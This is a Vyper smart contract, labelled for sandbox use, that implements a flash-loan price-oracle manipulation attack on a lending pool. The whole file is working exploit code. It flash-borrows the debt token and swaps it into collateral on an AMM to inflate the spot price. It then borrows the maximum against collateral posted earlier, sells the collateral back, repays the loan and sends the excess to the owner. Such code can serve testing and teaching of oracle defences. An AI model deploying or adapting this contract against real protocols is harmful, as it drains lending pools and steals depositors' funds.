# pragma version 0.4.3
"""
@title Attacker: flash-loan oracle manipulation of the lending pool
@notice Borrows the debt token in a flash loan, buys collateral on the AMM to pump its spot
        price, borrows against collateral it posted beforehand at the inflated price, sells the
        bought collateral back and repays the loan, keeping the excess borrow.
@dev Revert messages are prefixed with "attack:". Sandbox use only.
"""

from ethereum.ercs import IERC20

interface IFlashLender:
    def flash_loan(receiver: address, token: address, amount: uint256, data: Bytes[1024]) -> bool: nonpayable

interface IAMM:
    def swap(token_in: address, amount_in: uint256, min_out: uint256) -> uint256: nonpayable

interface ILending:
    def deposit(amount: uint256): nonpayable
    def borrow(amount: uint256): nonpayable
    def max_borrow(account: address) -> uint256: view
    def available() -> uint256: view

CALLBACK_SUCCESS: constant(bytes32) = keccak256("ERC3156FlashBorrower.onFlashLoan")

owner: public(address)
lender: public(address)
amm: public(address)
lending: public(address)
collateral: public(address)
debt: public(address)


@deploy
def __init__(lender_: address, amm_: address, lending_: address, collateral_: address, debt_: address):
    self.owner = msg.sender
    self.lender = lender_
    self.amm = amm_
    self.lending = lending_
    self.collateral = collateral_
    self.debt = debt_


@external
def post_collateral(amount: uint256):
    """
    @notice Deposit collateral the contract holds into the lending pool (a set-up step).
    """
    assert msg.sender == self.owner, "attack: not owner"
    extcall IERC20(self.collateral).approve(self.lending, amount)
    extcall ILending(self.lending).deposit(amount)


@external
def attack(flash_amount: uint256):
    """
    @notice One round: flash-borrow `flash_amount`, manipulate, borrow, unwind; profit to owner.
    """
    assert msg.sender == self.owner, "attack: not owner"
    extcall IFlashLender(self.lender).flash_loan(self, self.debt, flash_amount, b"")
    profit: uint256 = staticcall IERC20(self.debt).balanceOf(self)
    extcall IERC20(self.debt).transfer(self.owner, profit)


@external
def onFlashLoan(initiator: address, token: address, amount: uint256, fee: uint256, data: Bytes[1024]) -> bytes32:
    """
    @notice Flash-loan callback: pump, borrow at the pumped price, dump, approve repayment.
    """
    assert msg.sender == self.lender, "attack: not lender"
    extcall IERC20(self.debt).approve(self.amm, amount)
    bought: uint256 = extcall IAMM(self.amm).swap(self.debt, amount, 0)
    can: uint256 = min(staticcall ILending(self.lending).max_borrow(self), staticcall ILending(self.lending).available())
    if can > 0:
        extcall ILending(self.lending).borrow(can)
    extcall IERC20(self.collateral).approve(self.amm, bought)
    extcall IAMM(self.amm).swap(self.collateral, bought, 0)
    extcall IERC20(self.debt).approve(self.lender, amount + fee)
    return CALLBACK_SUCCESS
